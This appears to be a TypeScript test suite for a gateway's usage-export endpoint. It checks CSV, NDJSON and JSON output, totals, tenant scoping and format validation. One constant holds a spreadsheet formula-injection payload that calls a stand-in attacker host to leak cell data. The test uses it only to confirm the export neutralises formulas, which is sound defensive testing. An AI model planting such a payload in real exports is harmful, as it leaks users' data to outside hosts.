import { expect, test } from "bun:test";
import { pick, pickText } from "../harness/json.ts";
import { codeOf, describeApi, fieldsOf, itemsOf } from "./started.ts";
import { multiply, withShell } from "./store-shell.ts";
import { addCaller } from "./tenancy.ts";

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

describeApi("usage as a file", (api) => {
  const file = (format: string, more = "", key = api.gateway.adminKey) =>
    api.gateway.api("GET", `/v1/accounting/export?format=${format}${more}`, { key });

  test("comes as CSV with a heading, and no formula in it", async () => {
    await api.chat({ metadata: { "=1+1": EVIL } });
    const { headers, text } = await file("csv");
    expect(headers.get("content-type")).toStartWith("text/csv");
    expect(headers.get("content-disposition")).toMatch(/^attachment; filename="usage-[\d-]{10}\.csv"$/);
    expect(text.split("\r\n", 1)[0]).toStartWith("id,request_id,created_at");
    expect(text).toContain(`"{""=1+1"":`);
    expect(text).not.toMatch(/(^|,)"\s*[=+@-]/m);
  });

  test("is as large as the usage, in every format, each record once, and sums up to what reports say", async () => {
    await api.chat();
    await withShell(api.gateway, (store) => multiply(store, "usage", 1_234, ["id", "request_id"]));
    const lines = (await file("ndjson")).text
      .trimEnd()
      .split("\n")
      .map((line): unknown => JSON.parse(line));
    const ids = lines.map((line) => pickText(line, "id"));
    expect(ids.length).toBeGreaterThan(1_234);
    expect(new Set(ids).size).toBe(ids.length);
    const items = pick((await file("json")).body, "data.items");
    expect(Array.isArray(items) ? items.map((item) => pickText(item, "id")) : []).toEqual(ids);
    expect((await file("csv")).text.trimEnd().split("\r\n")).toHaveLength(ids.length + 1);
    const summary = (await api.gateway.api("GET", "/v1/accounting/usage/summary")).body;
    const micro = (cost: unknown) => Math.round(Number(cost) * 1_000_000);
    const total = lines.reduce<number>((sum, line) => sum + micro(pick(line, "cost")), 0);
    expect(micro(pick(summary, "data.0.total_cost"))).toBe(total);
    expect(pick(summary, "data.0.request_count")).toBe(ids.length);
  });

  test("is narrowed as the list is, and to what the caller may see", async () => {
    const who = await addCaller(api.gateway, { roles: ["tenant_user"] });
    await api.chat({}, { key: who.key });
    const listed = itemsOf(await who.call("GET", "/v1/accounting/usage"));
    expect(listed).toHaveLength(1);
    expect(pick((await file("json", "", who.key)).body, "data.items")).toEqual(listed);
    expect((await file("ndjson", "&status=failed", who.key)).text).toBe("");
    const beyond = await file("csv", "&tenant_id=tenant_other", who.key);
    expect([beyond.status, codeOf(beyond)]).toEqual([403, "AUTHZ_PERMISSION_DENIED"]);
  });

  test("in no other format", async () => {
    const reply = await file("xlsx");
    expect([codeOf(reply), fieldsOf(reply)]).toEqual(["VALIDATION_ERROR", ["query.format"]]);
  });
});
